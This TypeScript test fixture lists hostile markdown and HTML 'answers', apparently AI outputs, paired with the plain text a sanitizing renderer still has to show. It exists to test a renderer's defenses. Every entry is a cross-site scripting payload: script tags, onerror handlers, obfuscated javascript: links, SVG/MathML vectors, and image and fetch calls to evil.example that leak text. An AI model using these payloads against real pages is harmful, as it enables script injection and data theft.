const FOREIGN = 'https://evil.example';

/** Answers that would do harm if the page took them at their word; each with the plain text that still has to be shown. */
export const hostileAnswers: readonly { name: string; answer: string; shown: string }[] = [
  {
    name: 'a script',
    answer: `Before<script>alert(1);fetch('${FOREIGN}/script')</script> after.`,
    shown: 'Before',
  },
  {
    name: 'an image with a handler',
    answer: `Look <img src=x onerror="alert(2)"> here <img src="${FOREIGN}/raw.png">.`,
    shown: 'Look',
  },
  {
    name: 'an image on a foreign host',
    answer: `A picture: ![secret](${FOREIGN}/pixel.png?stolen=text) and ![ref][pixel]\n\n[pixel]: ${FOREIGN}/ref.png`,
    shown: 'A picture',
  },
  {
    name: 'links that run code',
    answer: `[one](javascript:alert(3)) [two](JaVaScRiPt:alert(4)) [three](java\tscript:alert(5)) [four](&#106;avascript:alert(6)) [five](vbscript:x) <javascript:alert(7)> end.`,
    shown: 'end.',
  },
  {
    name: 'data and blob links',
    answer: `[six](data:text/html,<script>alert(8)</script>) [seven](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==) [eight](blob:https://evil.example/x) end.`,
    shown: 'end.',
  },
  {
    name: 'frames, objects and styles',
    answer: `<iframe src="${FOREIGN}/frame"></iframe><iframe srcdoc="<script>parent.alert(10)</script>"></iframe><object data="${FOREIGN}/object"></object><embed src="${FOREIGN}/embed"><style>@import "${FOREIGN}/style.css"; body{display:none}</style><link rel="stylesheet" href="${FOREIGN}/link.css">\n\nStill shown.`,
    shown: 'Still shown.',
  },
  {
    name: 'SVG, MathML and a form',
    answer: `<svg onload="alert(11)"><a xlink:href="javascript:alert(12)"><text>x</text></a></svg><math><maction actiontype="statusline" xlink:href="javascript:alert(13)">y</maction></math><form action="${FOREIGN}/form"><button formaction="javascript:alert(14)">Press</button></form><base href="${FOREIGN}/">\n\nStill shown.`,
    shown: 'Still shown.',
  },
  {
    name: 'markup inside markdown',
    answer: `\`\`\`html\n<img src="${FOREIGN}/code.png" onerror="alert(15)">\n\`\`\`\n\n| a |\n| --- |\n| <img src="${FOREIGN}/cell.png" onerror="alert(16)"> |\n\n![x](${FOREIGN}/title.png "\\" onerror=\\"alert(17)") done.`,
    shown: 'done.',
  },
  {
    name: 'a fence that names a class',
    answer: `\`\`\`"><img/src=${FOREIGN}/fence.png/onerror=alert(18)>\ncode\n\`\`\`\n\ndone.`,
    shown: 'done.',
  },
  {
    name: 'an address that prefetches',
    answer: `<link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="${FOREIGN}/prefetch"><meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh"><video poster="${FOREIGN}/poster.png" src="${FOREIGN}/video"></video>\n\nStill shown.`,
    shown: 'Still shown.',
  },
  {
    name: 'what entities stand for',
    answer: `Salt &amp; pepper &mdash; &lt;script&gt;alert(19)&lt;/script&gt; &#60;img src=x onerror=alert(20)&#x3E; &unknown; &notit; &amp &semi; [end](https://example.com/?a=1&amp;b=2 "&quot; onmouseover=&quot;alert(21)").`,
    shown:
      'Salt & pepper — <script>alert(19)</script> <img src=x onerror=alert(20)> &unknown; &notit; &amp ; end.',
  },
];
